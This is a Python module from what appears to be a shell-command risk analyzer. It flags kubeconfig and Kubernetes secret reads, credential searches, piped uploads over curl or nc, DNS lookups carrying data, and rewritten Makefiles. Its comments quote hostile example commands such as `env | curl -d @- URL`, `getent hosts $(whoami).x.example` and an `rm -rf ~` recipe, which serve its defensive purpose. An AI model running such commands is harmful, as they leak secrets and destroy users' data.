"""Named checks (`CHECKS`) that data entries name for what data cannot express, validated
against every entry when this module loads."""

from __future__ import annotations

import os.path
import re
import shlex
from collections.abc import Mapping
from types import MappingProxyType

from wakeful.policy.program_rules import PROGRAMS, PROJECT_SCRIPTS, Program
from wakeful.policy.programs.assignments import _COMPILER_LOADS, _assign, build_program
from wakeful.policy.programs.cloud import _openssl_output
from wakeful.policy.programs.find import read_listed
from wakeful.policy.programs.inline import _run_file, _stdin_source
from wakeful.policy.programs.options import (
    _ENDLESS_DEVICES,
    _SECRET_ENV_READERS,
    Handler,
    _has,
    _short,
    _v,
    _vals,
    split_opts,
)
from wakeful.policy.programs.search import (
    _GREP_PATTERN_OPTS,
    _reads_home_tree,
    credential_search,
    prints_every_line,
    read_selected_secrets,
    searches_project_secrets,
    searches_repository_config,
)
from wakeful.policy.programs.sql import _is_local_name, database_host
from wakeful.policy.programs.toolchains import framework_task
from wakeful.policy.shell import Analyzer
from wakeful.policy.shell_parse import SimpleCommand, Word
from wakeful.policy.types import Tier


def _maven_exec(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`mvn exec:exec -Dexec.executable=X -Dexec.args=...` runs X with those arguments."""
    props: dict[str, Word] = {}
    for w in args:
        prop, eq, value = (w.value or "").removeprefix("-D").partition("=")
        if (w.value or "").startswith("-D") and eq:
            props[prop] = Word(value, w.text)
    if "exec.executable" not in props:
        return
    program = props["exec.executable"].value
    args_text = props["exec.args"].value if "exec.args" in props else ""
    if program is None or args_text is None:
        a.add(Tier.HIGH, f"{name} exec runs a program only known at run time")
    else:
        a.run_script(f"{program} {args_text}", cmd.cwd, f"{name} exec:exec")


def _kubernetes_secrets(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`kubectl get secret X -o yaml`, `get secrets,configmaps -o json`, `get secret/X -o
    jsonpath=...`: the kinds a `get` names (in lists and kind/name forms) decide together
    with -o, wherever it is written."""
    opts, pos = split_opts(args, PROGRAMS[name].takes)
    if len(pos) > 1 and pos[0].value == "config" and pos[1].value == "view":
        # without --raw only certificate data and bearer tokens are redacted: a basic-auth
        # password, an auth-provider's tokens and client secret, an exec plugin's
        # environment are printed as written
        narrow = False
        for word in _vals(opts, "-o", "--output", "--template"):
            if word.value is None or _KUBECONFIG_SECRET.search(word.value):
                a.add(Tier.CRITICAL, f"{name} config view prints kubeconfig credentials")
                return
            narrow = narrow or _kube_template_narrow(word.value)
        if not narrow:
            # the whole file, or a template that may print a subtree of it (`{.users}`,
            # `{$}`, a go-template's `{{.user}}`): what does it hold that is not redacted?
            _kubeconfig_printed(name, _vals(opts, "--kubeconfig"), cmd, a)
        return
    if not pos or pos[0].value != "get":
        return
    for i, word in enumerate(args):  # `get --raw PATH`: an API path read as it is
        value = word.value or ""
        path = value[6:] if value.startswith("--raw=") else None
        if value == "--raw" and i + 1 < len(args):
            path = args[i + 1].value
        if value.startswith("--raw") and (path is None or "/secrets" in path):
            a.add(Tier.CRITICAL, f"{name} get --raw reads Kubernetes secrets")
            return
    kinds = {k for r in pos[1:2] for k in (r.value or "").lower().split(",")}
    if (
        any(k.split("/")[0] in ("secret", "secrets") for k in kinds)
        and (
            any(_v(o) not in ("name", "wide") for n, o in opts if n in ("-o", "--output"))
            or _has(opts, "--template")  # a template is an output format of its own
        )
        or any(k.startswith(("secret/", "secrets/")) for k in kinds)
        and _has(opts, "-o", "--output", "--template")
    ):
        a.add(Tier.CRITICAL, f"{name} get prints Kubernetes secrets")


_KUBECONFIG_SECRET = re.compile(
    r"(?i)passw|token|secret|auth-provider|client-key|credential|\bexec\b|\benv\b|\.\.[^.]"
)
# Fields of a kubeconfig that `config view` prints as written (client-go's ShortenConfig
# redacts only certificate and key data and `token`), as a key in any of YAML's spellings:
# a block mapping, a flow mapping or JSON (`{"password": ...}`), quoted or not.
_KUBECONFIG_UNREDACTED = re.compile(
    r"(?i)(?:^|[\s{,\-])[\"']?(password|auth-provider|client-secret|refresh-token|id-token|"
    r"access-token|env)[\"']?[ \t]*:"
)
_KUBECONFIG_MAX = 1 << 20
# A kubeconfig's fields that hold a string, never a mapping: a JSONPath whose every path
# ends at one of them prints no subtree (`{.users[*].name}`, `{.current-context}`).
_KUBE_SCALAR_FIELDS = frozenset(
    {"name", "server", "namespace", "cluster", "current-context", "kind", "apiVersion"}
)
_KUBE_JSONPATH_EXPR = re.compile(r"\{([^{}]*)\}")
_KUBE_JSONPATH_SUBSCRIPT = re.compile(r"\[[^\]]*\]")


def _kube_template_narrow(output: str) -> bool:
    """Whether a `-o jsonpath=...` template only prints fields that hold a string: any
    other template (a go-template, `{.users}`, `{$}`, `{range .users[*]}{.user}{end}`) may
    print a mapping, and the fields in it as written."""
    if output.startswith(("jsonpath=", "jsonpath-as-json=")):
        body = output.partition("=")[2]
    elif output.startswith("{"):
        body = output
    else:
        return False
    paths = 0
    for expr in _KUBE_JSONPATH_EXPR.findall(body):
        path = _KUBE_JSONPATH_SUBSCRIPT.sub("", expr).strip()
        path = path.removeprefix("range").strip()
        if path == "end":
            continue
        if path.startswith(('"', "'")) and path.endswith(('"', "'")) and len(path) > 1:
            continue  # a literal (`{"\\n"}`)
        if path.rpartition(".")[2] not in _KUBE_SCALAR_FIELDS:
            return False
        paths += 1
    return paths > 0


def _kubeconfig_printed(name: str, given: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`kubectl config view` without --raw redacts certificate data and bearer tokens, but a
    basic-auth password, an auth-provider's tokens and client secret and an exec plugin's
    environment are printed as written: the kubeconfig it would print is looked at, on
    every call, and a command that would print such a field reads credentials."""
    files: list[str | None]
    if given:
        files = [a.resolve(w, cmd.cwd) for w in given]
    else:
        # KUBECONFIG, set before the command, through env or earlier on the line, names a
        # list of files; the default is looked at too (an assignment in a subshell or for
        # another command may not reach this one)
        files = [os.path.join(a.home, ".kube", "config")]
        for value in a.assigned.get("KUBECONFIG", ()):
            if value is None:
                files.append(None)
            else:
                files.extend(a.resolve(part, cmd.cwd) for part in value.split(os.pathsep) if part)
    for full in files:
        if full is None:
            a.add(Tier.HIGH, f"{name} config view prints a kubeconfig only known at run time")
            return
        try:
            with open(full, "rb") as f:
                text = f.read(_KUBECONFIG_MAX).decode("utf-8", "replace")
        except (OSError, ValueError):
            continue  # nothing kubectl could print either
        found = _KUBECONFIG_UNREDACTED.search(text)
        if found:
            field = found.group(1).lower()
            a.add(
                Tier.CRITICAL,
                f"{name} config view prints {full}'s {field} as written (only certificate "
                "data and bearer tokens are redacted)",
            )
            return


_KUBE_SOURCE_VERBS = frozenset(
    {"get", "describe", "diff", "explain", "wait", "events", "top", "create", "run"}
)


def _kubernetes_sources(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`kubectl get -f https://...`, `kubectl diff -f URL`: a reading verb's manifest given
    as a URL is fetched from there (the URL itself can carry data out)."""
    opts, pos = split_opts(args, PROGRAMS[name].takes)
    if not pos or pos[0].value not in _KUBE_SOURCE_VERBS:
        return
    for word in _vals(opts, "-f", "--filename"):
        if word.value is None or "://" in word.value:
            a.add(Tier.NETWORK, f"{name} {pos[0].value} fetches {_short(word.text)}")
            return


# Checks that data entries name (`Program.checks`): what data cannot express.
def _rails_tasks(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`rake db:rollback`, `rake credentials:show`: Rails' own tasks, run through rake."""
    framework_task("rails", name, args, cmd, a)


def _sysctl_keys(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """sysctl's keys are paths under /proc/sys, which `..` can leave: each is read there."""
    for word in split_opts(args, ("-r", "--pattern"))[1]:
        if word.value is None:
            a.add(Tier.HIGH, "reads a kernel parameter only known at run time")
        elif "/" in word.value:
            path = os.path.normpath("/proc/sys/" + word.value.lstrip("/"))
            a.read(Word(path, word.text), cmd.cwd)


def _searches_hidden(name: str, args: list[Word]) -> bool:
    """Whether rg or ag also searches hidden files (`.env`): rg's `--hidden`, `-.` or `-u`
    given twice (`-uu`), ag's `--hidden` or `-u`/`--unrestricted`. grep -r always does, and
    ack skips no dotfile."""
    if name not in ("rg", "ag"):
        return False
    values = [w.value or "" for w in args]
    if "--hidden" in values or (name == "ag" and ({"-u", "--unrestricted"} & set(values))):
        return True
    if name != "rg":
        return False
    clusters = [v[1:] for v in values if re.fullmatch(r"-[A-Za-z.]+", v)]
    return any("." in c for c in clusters) or sum(c.count("u") for c in clusters) >= 2


def _search_scopes(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """What a search looks for and where: a credential's pattern searched for outside the
    workspace is reconnaissance (`grep -r AKIA /home`, `locate id_ed25519`), and a
    recursive search of a directory holding the home directory reads its secrets."""
    opts, pos = split_opts(args, PROGRAMS[name].takes if name in PROGRAMS else ())
    if name in ("locate", "mlocate", "plocate"):
        credential_search([w.text for w in pos], [None], cmd, a)
        return
    patterns = [w.text for w in _vals(opts, *_GREP_PATTERN_OPTS)]
    # no pattern operand when patterns are given otherwise, or files listed (`rg --files`)
    given = patterns or _vals(opts, "-f", "--file") or _has(opts, "--files", "--type-list")
    if pos and not given:
        patterns, pos = [pos[0].text], pos[1:]
    patterns += [w.text for w in _vals(opts, "-g", "--glob", "--iglob")]  # rg's file globs
    scopes: list[Word | None] = list(pos) or [Word(".", ".")]
    recursive = name in ("ag", "ack", "rg") or _has(
        opts, "-r", "-R", "--recursive", "--dereference-recursive"
    )
    credential_search(patterns, scopes, cmd, a, recursive)
    if recursive:
        named = [s for s in scopes if s is not None]
        includes = _vals(opts, "--include", "-g", "--glob", "--iglob")  # rg: -g GLOB
        read_selected_secrets(includes, named, cmd, a)
        if name in ("grep", "egrep", "fgrep", "ack") or _searches_hidden(name, args):
            # lines that do not match (-v) are nearly every line: judged as a pattern that
            # matches every line
            inverted = [""] if prints_every_line([w for w in args if w.value != "--"]) else []
            searches_project_secrets(
                patterns + inverted, named, includes, _vals(opts, "--exclude"), cmd, a
            )
        unrestricted = sum(1 for flag, _ in opts if flag == "-u")
        if (
            name in ("grep", "egrep", "fgrep")
            or name in ("rg", "ag")
            and (_has(opts, "--hidden", "-.", "--unrestricted") or unrestricted >= 2)
        ):
            # grep goes into .git; rg and ag do when told to search hidden files (`rg -uu`)
            searches_repository_config(
                patterns,
                named or [Word(".", ".")],
                _has(opts, "-v", "--invert-match", "-f", "--file"),
                cmd,
                a,
            )
        for word in pos:
            _reads_home_tree(word, cmd, a)


def _pager_commands(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`less '+!cmd'` runs cmd at start: `+` replays pager commands, where `!` runs a shell
    command and `|` pipes to one."""
    for word in args:
        value = word.value
        if value is None:
            if word.text.lstrip("\"'").startswith("+"):
                a.add(Tier.HIGH, f"{name} replays pager commands only known at run time")
            continue
        if value.startswith("+") and ("!" in value or "|" in value):
            a.add(Tier.HIGH, f"{name} replays pager commands that run programs")
            shell = value[1:].split("!", 1)[1] if "!" in value else ""
            if shell.strip():
                a.run_script(shell, cmd.cwd, f"{name} + command")


def _endless_copy(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`dd if=/dev/zero of=FILE` with no count: an endless device copied into a file grows
    it until the disk is full (three words together decide)."""
    values = [w.value or "" for w in args]
    if (
        any(v[3:] in _ENDLESS_DEVICES for v in values if v.startswith("if="))
        and any(v.startswith("of=") and v[3:] != "/dev/null" for v in values)
        and not any(v.startswith(("count=", "iflag=count")) for v in values)
    ):
        a.add(Tier.HIGH, "copies an endless device into a file with no count (fills the disk)")


_SECRET_VARIABLE = re.compile(r"(?i)(token|secret|passw|key|cred|auth|session|cookie)")


def _envsubst_scope(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """envsubst puts the environment's values into its output: with a list of variables,
    those it names; without one, those the template names. Tools run with an environment
    scrubbed of secrets (as `env | sort` is judged), so the whole of it is no secret; a
    secret-looking name picked out is asked, as `printenv GITHUB_TOKEN` is: in the list, or
    in the template's text or file name when they are known (a template known only at run
    time may name one)."""
    if any(w.value in ("-v", "--variables") for w in args):
        return
    shown = [w for w in args if not (w.value or "").startswith("-")]
    if shown:
        if any(w.value is None or _SECRET_VARIABLE.search(w.value) for w in shown):
            a.add(Tier.HIGH, "envsubst prints secret-looking environment variables")
        return
    template: list[Word] = [w for up in cmd.upstream for w in up.argv[1:]]
    for r in cmd.redirects:
        if r.op in ("<", "<<", "<<<") and r.fd in (None, "0"):
            template.append(r.target if r.stdin is None and r.target else r.stdin or Word(None, ""))
    if any(w.value is None or _SECRET_VARIABLE.search(w.value) for w in template):
        a.add(Tier.HIGH, "envsubst fills in a template that names secrets, or one not known")


def _clock_operand(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`date MMDDhhmm[[CC]YY][.ss]` sets the system clock as `date -s` does; an operand
    that starts with `+` is a format."""
    for word in split_opts(args, PROGRAMS[name].takes)[1]:
        if word.value is None or not word.value.startswith("+"):
            a.add(Tier.HIGH, f"{name} {_short(word.text)} sets the system clock")


# getent's databases whose keys are names that a DNS server may be asked about
_NAME_DATABASES = frozenset({"hosts", "ahosts", "ahostsv4", "ahostsv6", "networks"})


def _name_lookup(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`getent hosts NAME` asks a DNS server about a name that /etc/hosts does not hold:
    the query itself can carry data out (`getent hosts $(whoami).x.example`)."""
    pos = split_opts(args, PROGRAMS[name].takes)[1]
    if not pos or pos[0].value not in _NAME_DATABASES:
        return
    for key in pos[1:]:
        if key.value is None or not _is_local_name(key.value):
            a.add(Tier.NETWORK, f"{name} {pos[0].value} {_short(key.text)} asks a DNS server")
            return


def _upstream_secret(cmd: SimpleCommand, a: Analyzer) -> str | None:
    """A secret that the commands before this one in its pipeline print: the environment
    (`env`, `printenv`) or a credentials file they name."""
    for up in cmd.upstream:
        if up.name in _SECRET_ENV_READERS and len(up.argv) <= 2:
            return f"the environment (`{up.text}`)"
        for w in up.argv[1:]:
            if w.value and a.place(w, up.cwd).zone == "secret":
                return w.value
    return None


def _stdin_sent(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """nc, socat, telnet send what they read on standard input: a pipe or a file redirected
    into them goes to the other machine, a secret read upstream most of all."""
    if cmd.upstream or any(r.op == "<" for r in cmd.redirects):
        secret = _upstream_secret(cmd, a)
        a.add(
            Tier.CRITICAL if secret else Tier.HIGH,
            f"sends {secret or 'data'} over a raw network connection",
        )


# An upload of standard input: `-d @-`, `--data-binary @-`, `-F file=@-`, `-F f=<-`
_STDIN_UPLOAD = re.compile(r"^(?:[^=@<]*=)?[@<]-(?:;.*)?$")


def _stdin_upload(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """curl uploads standard input (`env | curl -d @- URL`): a secret read upstream leaves
    the machine."""
    if cmd.upstream and any(_STDIN_UPLOAD.match(w.value or "") for w in args):
        secret = _upstream_secret(cmd, a)
        if secret:
            a.add(Tier.CRITICAL, f"uploads {secret} to the network (exfiltration)")


def _stdin_commands(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """dc reads commands from standard input, where `!` runs the rest of the line as a
    shell command: from a pipe (whatever it carries) or a here-document holding `!`."""
    body, _ = _stdin_source(cmd)
    if cmd.upstream or (body and "!" in body):
        a.add(Tier.HIGH, f"{name} can run shell commands (!) read from standard input")


def _user_command(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`runuser -u USER COMMAND...`: with -u the operands are a command, judged (so that a
    deny rule on it holds); without, a user and the shell's arguments (`runuser dev -c
    CODE`, whose CODE the entry's `exec_opts` judge)."""
    opts, pos = split_opts(args, PROGRAMS[name].takes)
    if pos and _vals(opts, "-u", "--user"):
        a.run_argv(pos, cmd)


_VARIABLE_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
# The shells a makefile's recipes are run with (`make SHELL=bash`), and the flags they are
# given before the recipe (`.SHELLFLAGS=-ec`): anything else runs the recipes with another
# program, or with code of its own.
_RECIPE_SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash"})
_RECIPE_SHELL_FLAGS = re.compile(r"(?:-[a-zA-Z]+\s+|-o\s+\w+\s+)*-[a-zA-Z]*c")


def _variable_operands(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`make CC=/tmp/cc`, `./configure CC=/tmp/cc`: an operand VAR=VALUE sets a variable as
    the environment would, and is judged as such an assignment (a compiler, a library path
    that the build runs). make runs its recipes with the SHELL an operand names (from the
    environment it would not) and with the .SHELLFLAGS it gives."""
    rule = PROGRAMS.get(name) or PROJECT_SCRIPTS[name.rpartition("/")[2]]
    for word in split_opts(args, rule.takes)[1]:
        var, eq, value = (word.value or "").partition("=")
        if not eq:
            continue
        if name in ("make", "gmake") and (
            var == "SHELL"
            and (word.value is None or value.rpartition("/")[2] not in _RECIPE_SHELLS)
            or var == ".SHELLFLAGS"
            and not _RECIPE_SHELL_FLAGS.fullmatch(value)
        ):
            a.add(Tier.HIGH, f"{name} runs its recipes with {_short(word.text)}")
        if _VARIABLE_NAME.fullmatch(var):
            _assign(var, Word(value, value), cmd, a)


_DEFAULT_MAKEFILES = ("GNUmakefile", "makefile", "Makefile")


def _written_makefile(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`printf 'all:\n\trm -rf ~\n' > Makefile; make`: the makefile make reads (the first
    of its default names in the directory, when no -f names one) was written by this line
    from static text, so its recipes are that text, not the project's build. It is judged
    as a script (a rule line as a command no one knows asks)."""
    if cmd.cwd is None or not a.wrote:
        return
    opts, _ = split_opts(args, PROGRAMS[name].takes)
    if _vals(opts, "-f", "--file", "--makefile", "-C", "--directory"):
        return  # -f is the entry's script option; -C moves where the defaults are looked for
    for base in _DEFAULT_MAKEFILES:
        text = a.wrote.get(os.path.join(cmd.cwd, base))
        if text is None:
            continue
        recipes: list[str] = []
        for line in text.splitlines():
            if line.startswith("\t"):
                recipes.append(line[1:].lstrip("@-+ "))
            elif not (
                not line.strip()
                or line.lstrip().startswith("#")
                or _MAKE_PLAIN_LINE.match(line)
                and "$(shell" not in line
                and "`" not in line
            ):
                a.add(Tier.HIGH, f"{name} reads {base}, which this line wrote: {_short(line)}")
        a.run_script("\n".join(recipes), cmd.cwd, f"the recipes of {base}, which this line wrote")
        return


# A makefile line that only names a rule (`all: build`) or sets a variable (`CC = gcc`).
_MAKE_PLAIN_LINE = re.compile(
    r"[A-Za-z0-9_.%/ $(){}-]+:(?!=)[^=;]*$|[A-Za-z_][A-Za-z0-9_]*\s*[:+?!]?="
)


def _ssh_keygen_output(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`ssh-keygen -t TYPE -f FILE` writes a new key pair, FILE and FILE.pub: a new file in a
    plain workspace directory is a workspace write, as openssl's new keys are; over a file
    that exists it asks (ssh-keygen prompts), and without -f it writes ~/.ssh/id_TYPE."""
    opts, _ = split_opts(args, PROGRAMS[name].takes)
    types = _vals(opts, "-t")
    if not types:
        return
    files = _vals(opts, "-f")
    if not files:
        kind = (types[-1].value or "rsa").split("-")[0]
        a.write(Word(f"~/.ssh/id_{kind}", "~/.ssh/id_" + kind), cmd.cwd)
        return
    for target in files:
        path = a.place(target, cmd.cwd).path
        if path is None or os.path.lexists(path):
            a.add(Tier.HIGH, f"{name} writes over {_short(target.text)}, or a file not known")
            continue
        _openssl_output(target, cmd, a)
        a.write(Word(path + ".pub", target.text + ".pub"), cmd.cwd)


def _go_module_fetch(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`go mod tidy`, `download`, `vendor` fetch what the module cache lacks; with
    GOPROXY=off set for the command, go downloads from no source (GONOPROXY modules too)."""
    if not any(var == "GOPROXY" and value.value == "off" for var, value in cmd.assigns):
        a.add(Tier.NETWORK, "go mod fetches modules")


def _mix_do(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`mix do TASK ARGS, TASK ARGS` (or `+` between them): each task is a mix command."""
    tasks: list[list[Word]] = [[]]
    for word in args:
        if word.value is None:
            tasks[-1].append(word)
            continue
        if word.value == "+":
            tasks.append([])
            continue
        pieces = word.value.split(",")
        for k, piece in enumerate(pieces):
            if k:
                tasks.append([])
            if piece:
                tasks[-1].append(Word(piece, piece))
    for task in tasks:
        if task:
            a.run_argv([Word("mix", "mix"), *task], cmd)


def _minisign_keys(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """minisign's keys: -G writes a new secret key (-s, or ~/.minisign/minisign.key) and
    public key (-p, or ./minisign.pub), judged as openssl's new keys are (over a file that
    exists, asked); otherwise -s is the secret key read and -p the public key read."""
    opts, _ = split_opts(args, PROGRAMS[name].takes)
    secret = _vals(opts, "-s") or [Word("~/.minisign/minisign.key", "~/.minisign/minisign.key")]
    public = _vals(opts, "-p")
    if not _has(opts, "-G"):
        for key in [*_vals(opts, "-s"), *public]:
            a.read(key, cmd.cwd)
        return
    for key in [*secret, *(public or [Word("minisign.pub", "minisign.pub")])]:
        path = a.place(key, cmd.cwd).path
        if path is None or os.path.lexists(path):
            a.add(Tier.HIGH, f"{name} -G writes over {_short(key.text)}, or a file not known")
        elif key in secret:
            _openssl_output(key, cmd, a)
        else:
            a.write(key, cmd.cwd)


def _mlr_prepipe(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """Miller runs `CMD < FILE` for --prepipe CMD and `CMD FILE` for --prepipex CMD, once
    for each file operand (and for the --from files): judged as those shell commands, and
    as the command written alone unless it ends in the redirection Miller completes."""
    opts, pos = split_opts(args, PROGRAMS[name].takes)
    files = [*_vals(opts, "--from"), *pos]
    for opt in ("--prepipe", "--prepipex"):
        for code in _vals(opts, opt):
            if code.value is None:
                a.add(Tier.HIGH, f"{name} {opt} runs a command only known at run time")
                continue
            glue = " " if opt == "--prepipex" else " < "
            if not code.value.rstrip().endswith("<"):  # also as written (`curl ... | sh`)
                a.run_script(code.value, cmd.cwd, f"{name} {opt}")
            for f in files or [Word("input", "input")]:
                target = shlex.quote(f.value) if f.value is not None else '"$FILE"'
                a.run_script(code.value + glue + target, cmd.cwd, f"{name} {opt}")


# radare2 commands that analyze or print, and those that write (with -w); arguments of
# names, numbers, addresses and `@` seeks only
_R2_READS = frozenset(
    {"aa", "aaa", "aaaa", "af", "afl", "afll", "aflj", "afi", "afn", "axt", "axf", "s"}
    | {"pd", "pdf", "pdfj", "pdr", "pds", "px", "pxw", "pxq", "pxj", "ps", "psz", "i", "ij"}
    | {"iz", "izz", "izj", "ii", "iij", "ie", "iS", "iSj", "is", "isj", "il", "iI", "ic", "?v"}
)
_R2_WRITES = frozenset({"wx", "wa", "wz"})
_R2_ARGS = re.compile(r"[\w@ .:+\-\[\]*/,]*")


def _r2_commands(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """radare2 -q -c 'CMD; CMD': analysis and printing read the file; wx, wa, wz with -w
    write it; any other command (shell escapes, pipes, scripts, opening files, settings,
    output to files) asks."""
    opts, pos = split_opts(args, PROGRAMS[name].takes)
    writes = _has(opts, "-w")
    for code in _vals(opts, "-c"):
        for part in (code.value or "\0").split(";"):
            words = part.split(None, 1)
            if not words:
                continue
            verb, rest = words[0], words[1] if len(words) > 1 else ""
            if not _R2_ARGS.fullmatch(rest) or verb not in _R2_READS | _R2_WRITES:
                a.add(Tier.HIGH, f"{name} -c runs {_short(part.strip())}, which may do anything")
            elif verb in _R2_WRITES:
                if not writes:
                    continue  # opened read-only: the write fails
                for f in pos:
                    a.write(f, cmd.cwd)


_PLIST_READS = frozenset({"print", "help", "exit", "save", "revert"})
_PLIST_WRITES = frozenset({"set", "add", "delete", "clear", "copy"})


def _plist_buddy(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """PlistBuddy's -c commands: Print reads the file named; Set, Add, Delete, Clear and Copy
    change it; Merge and Import read another file into it (without -c, the entry's own tier:
    it reads commands interactively)."""
    opts, pos = split_opts(args, PROGRAMS[name].takes)
    commands = _vals(opts, "-c")
    files = pos[:1] or [Word(None, "<file>")]
    for command in commands:
        words = (command.value or "").split()
        verb = words[0].lower() if words else ""
        if command.value is None or verb not in _PLIST_READS | _PLIST_WRITES | {"merge", "import"}:
            a.add(Tier.HIGH, f"{name} -c {_short(command.text)}: a command not known")
            continue
        for f in files:
            a.read(f, cmd.cwd)
            if verb not in _PLIST_READS:
                a.write(f, cmd.cwd)
        if verb in ("merge", "import") and len(words) > (2 if verb == "import" else 1):
            source = words[2] if verb == "import" else words[1]
            a.read(Word(source, source), cmd.cwd)


_REMOTE_ARCHIVE = re.compile(r"^[\w.@-]+:")


def _cpio_names(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """cpio -o and -p read the files named on standard input: what upstream lists. -o
    writes the archive to standard output or to -F/-O FILE; -p copies into its operand.
    An archive named HOST:FILE is reached through a remote shell."""
    opts, pos = split_opts(args, PROGRAMS[name].takes)
    copy_out = _has(opts, "-o", "--create")
    passes = _has(opts, "-p", "--pass-through")
    if copy_out or passes:
        read_listed(cmd, a)
    if passes and pos:
        a.write(pos[0], cmd.cwd)
    for f in _vals(opts, "-F", "--file", "-O", "-I"):
        if f.value is None or _REMOTE_ARCHIVE.match(f.value):
            a.add(Tier.NETWORK, f"{name} reaches the archive {_short(f.text)} on another host")
        elif copy_out:
            a.write(f, cmd.cwd)
    for shell in _vals(opts, "--rsh-command"):
        a.add(Tier.HIGH, f"{name} runs a remote shell command (--rsh-command)")
        if shell.value:
            a.run_script(shell.value, cmd.cwd, f"{name} --rsh-command")


def _stdin_names(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`zip -@` archives the files named on standard input: what upstream lists (-@ also
    inside a cluster of flags, `-q@`, or spelled --names-stdin)."""
    if any(_ZIP_NAMES_STDIN.fullmatch(w.value or "") for w in args):
        read_listed(cmd, a)


# zip's -@ alone, in a cluster of one-letter flags (not `-i@FILE` or `-x@FILE`, which name
# a file of patterns), or by its long name.
_ZIP_NAMES_STDIN = re.compile(r"-[A-Za-z0-9]*(?<![ix])@[A-Za-z0-9]*|--names-stdin")


# dscl's options before the datasource that take a value (`-u USER -P PASSWORD`, `-f FILE`)
_DSCL_VALUE_OPTS = frozenset({"-u", "-P", "-f"})
# dscl commands that only read (written with a dash or without: `-list`, `list`, `ls`)
_DSCL_READS = frozenset({"read", "readpl", "readpli", "list", "ls", "cat", "search", "diff"})


def _dscl_command(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`dscl [options] DATASOURCE COMMAND ...`: one command, the word after the datasource,
    with or without its dash; every word after it is that command's (`dscl . -create
    /Users/x -list` creates). No command starts dscl's interactive shell."""
    i = 0
    while i < len(args) and (args[i].value or "").startswith("-"):
        if args[i].value == "-f" and i + 1 < len(args):  # a local directory database
            a.read(args[i + 1], cmd.cwd)
        i += 2 if args[i].value in _DSCL_VALUE_OPTS else 1
    command = args[i + 1].value if i + 1 < len(args) else None
    if i + 1 < len(args) and command is None:
        a.add(Tier.HIGH, f"{name} runs a command only known at run time")
    elif command is None:
        # its interactive shell, which reads its commands from standard input: nothing to
        # run from the tool's empty input, anything from a pipe, a file or a here-document
        if cmd.upstream or any(r.op.startswith("<") for r in cmd.redirects):
            a.add(Tier.HIGH, f"{name} runs the commands it reads from standard input")
    elif command.removeprefix("-") not in _DSCL_READS:
        a.add(Tier.HIGH, f"{name} {_short(command)} changes directory records")
    else:
        a.add(Tier.READ_ONLY, f"{name} {_short(command)} reads directory records")


def _setting_value(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`fossil settings NAME` shows a setting; a value after the name, `--unset`, or words
    only known at run time change one."""
    pos = [w for w in args if not (w.value or "").startswith("-")]
    if len(pos) > 1 or any(w.value is None or w.value == "--unset" for w in args):
        a.add(Tier.HIGH, f"{name} changes a setting")


def _quarantine_change(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`xattr -d com.apple.quarantine FILE` (and -w, -c, in any cluster: `-dr`): the
    quarantine that makes Gatekeeper check a downloaded program is removed or forged;
    `-p` only prints it."""
    values = [w.value for w in args]
    changes = any(
        v is None or (v.startswith("-") and not v.startswith("--") and set(v[1:]) & set("dwc"))
        for v in values
    )
    if changes and any(v is None or v == "com.apple.quarantine" for v in values):
        a.add(
            Tier.HIGH,
            f"{name} changes com.apple.quarantine, which makes Gatekeeper check "
            "a downloaded program",
        )


_GO_EXTERNAL_LINKER = re.compile(r"-extld[= ]+(\S+)")
_GO_EXTERNAL_FLAGS = re.compile(r"-extldflags[= ]+['\"]?")


def _go_tool_program(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`go build -toolexec=PROG`, `-vettool`, `go test -exec PROG`: go runs PROG with the
    tool's or test binary's path and arguments after its own (`-toolexec=rm` deletes the
    compiler), so PROG is judged as given a file."""
    for k, word in enumerate(args):
        flag, eq, attached = (word.value or "").partition("=")
        if flag.lstrip("-") in ("ldflags", "gccgoflags"):
            # the linker's and gccgo's flags: an external linker it runs (`-extld=PROG`), a
            # plugin or program the C toolchain loads (`-extldflags=-fuse-ld=/tmp/ld`)
            flags = attached if eq else args[k + 1].value if k + 1 < len(args) else ""
            if flags is None:
                a.add(Tier.HIGH, f"go {flag.lstrip('-')} only known at run time")
                continue
            for linker in _GO_EXTERNAL_LINKER.findall(flags):
                build_program(f"go {flag.lstrip('-')} -extld", linker.strip("'\""), cmd, a)
            if _COMPILER_LOADS.search(_GO_EXTERNAL_FLAGS.sub(" ", flags)):
                a.add(Tier.HIGH, f"go {flag.lstrip('-')}={_short(flags)}: the toolchain loads that")
